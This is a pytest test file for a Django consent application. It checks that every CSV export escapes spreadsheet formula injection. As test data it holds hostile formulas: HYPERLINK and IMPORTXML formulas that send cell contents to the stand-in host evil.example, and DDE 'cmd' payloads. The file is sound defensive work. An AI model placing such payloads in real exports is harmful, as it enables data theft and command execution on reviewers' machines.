"""CSV formula injection: no cell of any CSV export is read by a spreadsheet as a formula.

Legal reviewers open the exports in Excel or LibreOffice. A value that a subject, a
signer's browser or a staff member typed, starting with = + - @ tab or CR, would run
there as a formula (HYPERLINK exfiltration, DDE `cmd|...`). Every such string cell is
written with a leading apostrophe; numbers stay numbers. The exports are found from the
URL configuration, so a new CSV route without a case here fails.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.urls import get_resolver, reverse

from audit.actions import record
from consent import actions
from tenancy.models import Role
from tenancy.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
from tests.fixtures.consent import ALL_PURPOSES

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the signed original")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
ARITHMETIC = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"
ERASE_REASON = '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")'


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    # newline="" keeps a CR inside a quoted cell as part of the cell, as a spreadsheet reads it.
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def _assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


@pytest.fixture
def hostile(tenant, make_subject, issue_link, enrolled_subject, admin, member, client_for):
    """A tenant whose records, certificates and audit log hold the values the audit reported."""
    subject = make_subject()
    issued = issue_link(subject, ALL_PURPOSES)
    actions.sign_consent(
        token=issued.token,
        purposes=ALL_PURPOSES,
        full_name=HYPERLINK,
        representation="counsel",
        representation_detail=DDE,
        ip="203.0.113.7",
        user_agent=SUM,
    )
    assert actions.erase_subject(actor=admin, subject=enrolled_subject, reason=ERASE_REASON) is not None
    # Django usernames may start with + - @ and hold digits: "-2+3" is a valid one.
    reviewer = member(tenant, Role.LEGAL_REVIEWER, username=ARITHMETIC)
    record(tenant=tenant, action="test.hostile", actor=reviewer, target_type="test.thing", target_id=TAB)
    record(tenant=tenant, action="test.hostile", target_type="test.thing", target_id=CR)
    return {"subject": subject, "legal": client_for(reviewer, tenant)}


# Route name -> the hostile values its CSV holds (each must come out escaped).
CSV_ROUTES = {
    "consent-subject-history-csv": [HYPERLINK, DDE, SUM],
    "consent-certificates-csv": [ERASE_REASON],
    "deletioncertificate-export-csv": [ERASE_REASON],
    "audit-export-csv": [ARITHMETIC, TAB, CR],
    "auditentry-export-csv": [ARITHMETIC, TAB, CR],
}


def _url(route: str, data: dict[str, Any]) -> str:
    return reverse(route, args=[data["subject"].pk] if route == "consent-subject-history-csv" else [])


def test_every_csv_route_is_covered_here():
    names = {name for name in get_resolver().reverse_dict if isinstance(name, str) and "csv" in name.lower()}
    assert names == set(CSV_ROUTES), "a CSV export was added or renamed: give it a case in CSV_ROUTES"


@pytest.mark.parametrize("route", sorted(CSV_ROUTES))
def test_hostile_values_come_out_as_text_in_every_csv_export(route, hostile):
    rows = _rows(hostile["legal"].get(_url(route, hostile)))
    _assert_no_formula_cell(rows)
    cells = {cell for row in rows for cell in row}
    for value in CSV_ROUTES[route]:
        assert "'" + value in cells, (value, rows)


def test_the_history_export_names_the_fields_the_audit_found(hostile):
    rows = _rows(hostile["legal"].get(_url("consent-subject-history-csv", hostile)))
    signed = dict(zip(rows[0], rows[1], strict=True))
    assert signed["signer_full_name"] == "'" + HYPERLINK
    assert signed["representation_detail"] == "'" + DDE
    assert signed["signer_user_agent"] == "'" + SUM


def test_numbers_stay_numbers_and_the_escape_is_reversible():
    """Only strings can carry a formula; an apostrophe already leading a value is escaped too, so
    removing one leading apostrophe from every cell that has one restores the exact value."""
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("-5") == "'-5"
    assert spreadsheet_safe("'quoted") == "''quoted"
    for value in ("plain", "a=b", " =1", "'", HYPERLINK, DDE, SUM, ARITHMETIC, TAB, CR):
        written = spreadsheet_safe(value)
        assert (written[1:] if written.startswith("'") else written) == value


def test_no_module_writes_csv_around_the_helper():
    """Every CSV export goes through tenancy.spreadsheet: no other module builds a csv writer."""
    writer = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    tracked = subprocess.run(
        ["git", "ls-files", "*.py"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout.split()
    offenders = [
        name
        for name in tracked
        if not name.startswith("tests/")
        and name != "tenancy/spreadsheet.py"
        and writer.search((ROOT / name).read_text(encoding="utf-8"))
    ]
    assert tracked and offenders == []
